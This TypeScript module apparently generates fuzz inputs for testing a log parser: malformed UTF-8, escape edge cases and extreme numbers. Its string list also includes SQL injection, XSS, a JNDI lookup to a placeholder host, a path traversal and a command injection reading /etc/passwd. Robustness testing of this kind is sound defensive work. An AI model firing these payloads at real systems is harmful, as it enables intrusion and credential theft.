/** Values that somebody who means harm would put into a log. */
import type { Random } from "../../simulate/lib/random.ts";

/** As bytes (Latin-1), of strings that are not escaped yet. */
const TEXTS: readonly string[] = [
  "",
  "-",
  "\0",
  "\x01\x02\x1b[2J\x7f",
  "\r\n",
  '"',
  "\\",
  '\\"',
  "\\u0000",
  "\\ud800",
  "\xff\xfe",
  "\xc0\xaf\xc0\x80",
  "\xed\xa0\x80",
  "\xf4\x90\x80\x80",
  "\xf0\x9f\x90",
  "\xc3\xa9\xe2\x82\xac\xf0\x9f\x90\xa2",
  "\xef\xbb\xbf",
  "\xe2\x80\xa8\xe2\x80\xae",
  "%00%c0%ae%2e%2e%2f%25%32%65",
  "%",
  "%u0000%uD800",
  "' UNION SELECT password FROM users-- ",
  "<script>alert(1)</script>",
  "${jndi:ldap://203.0.113.6/a}",
  "../../../../etc/passwd",
  "; cat /etc/passwd | sh",
  "from 203.0.113.6 port 22 ssh2",
  ", client: 203.0.113.6, server: x, request: ",
  '" 200 5 "-" "curl/8"',
  "[01/Jan/0001:00:00:00 +0000]",
  "9999-12-31T23:59:60.999999999+14:00",
  "1969-12-31T23:59:59Z",
  "999.999.999.999",
  "::ffff:203.0.113.6",
  "2001:db8::1%eth0",
  '{"log":{"log":{"log":"x"}}}',
  '"smartlog":{"v":1,"label":"normal"}',
  "NaN",
  "Infinity",
  "-0",
  "1e999",
  "__proto__",
  "constructor",
];

const NUMBERS: readonly string[] = [
  "0",
  "-0",
  "-1",
  "1e400",
  "-1e400",
  "1e-400",
  "1e-20000",
  "1.7976931348623157e308",
  "1.797693134862316e+308",
  "9007199254740993",
  "18446744073709551616",
  "0.1e1",
  "1E+1",
  "0e99999",
  "99999999999999999999999999999999999999.5",
  "1763720000123",
  "65536",
  "-2147483649",
];

/** Where a value came from, its length may come too. */
function repeated(random: Random, text: string): string {
  if (random.chance(0.97)) return text;
  return text.repeat(random.pick([2, 17, 130, 700]));
}

/** Any bytes, as Latin-1. */
export function anyBytes(random: Random, most: number): string {
  return Array.from({ length: random.int(0, most) }, () => String.fromCharCode(random.int(0, 255))).join("");
}

/** Bytes of a string, as Latin-1, not escaped. */
export function hostileText(random: Random): string {
  const many = random.chance(0.3) ? random.int(2, 4) : 1;
  return Array.from({ length: many }, () =>
    random.chance(0.1) ? anyBytes(random, 24) : repeated(random, random.pick(TEXTS)),
  ).join(random.pick(["", " ", "/", "="]));
}

/** A number, as JSON has it. */
export function hostileNumber(random: Random): string {
  if (random.chance(0.6)) return random.pick(NUMBERS);
  const digits = (most: number) =>
    Array.from({ length: random.int(1, most) }, () => random.int(0, 9)).join("");
  const whole = random.chance(0.3) ? "0" : `${random.int(1, 9)}${digits(random.chance(0.05) ? 400 : 12)}`;
  const fraction = random.chance(0.5) ? `.${digits(random.chance(0.05) ? 400 : 8)}` : "";
  const power = random.chance(0.4) ? `e${random.pick(["", "+", "-"])}${digits(5)}` : "";
  return `${random.pick(["", "-"])}${whole}${fraction}${power}`;
}

/** Bytes as a JSON string, Latin-1: escaped as they must be, some where they need not, and some badly. */
export function quoted(random: Random, text: string): string {
  const eager = random.chance(0.2);
  let out = "";
  for (let i = 0; i < text.length; i++) {
    const code = text.charCodeAt(i);
    const isPlain = code >= 0x20 && code !== 0x22 && code !== 0x5c;
    if (isPlain && !(eager && code < 0x80)) out += text[i];
    else if (code >= 0x80 && isPlain) out += text[i];
    else out += `\\u${code.toString(16).padStart(4, "0")}`;
  }
  if (random.chance(0.1))
    out += random.pick([
      "\\ud800",
      "\\udc00\\ud800",
      "\\ud83d\\ude00",
      "\\u0000",
      "\\/\\b\\f",
      "\\x",
      "\\u12",
      "\t",
    ]);
  return `"${out}"`;
}
